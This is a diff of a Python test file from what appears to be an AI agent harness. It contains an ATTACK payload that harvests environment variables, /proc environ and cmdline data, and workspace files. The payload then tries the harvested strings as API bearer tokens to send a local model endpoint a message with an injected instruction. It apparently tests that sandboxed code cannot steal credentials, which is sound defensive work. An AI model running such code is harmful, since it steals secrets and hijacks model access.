@@ -31,7 +31,9 @@ CHECK = f"cd {WORK} && python3 -c 'import calc; assert calc.add(1, 2) == 3'"
 ATTACK = f"""
 import glob, json, os, re, urllib.request
 texts = [repr(os.environ)]
-for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("{WORK}/**/*", recursive=True) + glob.glob("{WORK}/.*/**/*", recursive=True):
+paths = [f"/proc/{{pid}}/{{name}}" for pid in os.listdir("/proc") for name in ("environ", "cmdline") if pid.isdigit()]
+paths += [os.path.join(folder, name) for folder, _, names in os.walk("{WORK}") for name in names]
+for path in paths:
     try:
         texts.append(open(path, errors="replace").read(1000000))
     except OSError:
@@ -43,7 +45,9 @@ for word in words:
     for text in ("Be nice.", "Be nice. " + {INSTRUCTION!r}):
         body = json.dumps({{"messages": [{{"role": "user", "content": text}}], "tools": [tool]}}).encode()
         try:
-            urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:29117/v1/chat/completions", body, {{"Authorization": "Bearer " + word}}))
+            head = {{"Authorization": "Bearer " + word}}
+            url = "http://127.0.0.1:29117/v1/chat/completions"
+            urllib.request.urlopen(urllib.request.Request(url, body, head))
             done += 1
         except OSError:
             break
@@ -205,8 +209,8 @@ def test_a_talk_that_is_summed_up_is_trained_with_its_summary(name, play, scene)
     program, count = PROGRAMS[name], iter(range(1, 100))
 
     def reply(context, turn):
-        last = context.split("<|im_start|>user")[-1].lower()
-        if any(word in last for word in ("text only", "handoff summary", "structured summary", "state_snapshot")):
+        last = context.split("<|im_start|>user")[-1]
+        if any(words in last for words in ("TEXT ONLY", "handoff summary", "the summary process", "state_snapshot")):
             return "<summary>Numbers were printed.</summary>"
         n = next(count)
         commands = f"seq {n}00000 {n}01100; echo hello > hello.txt"
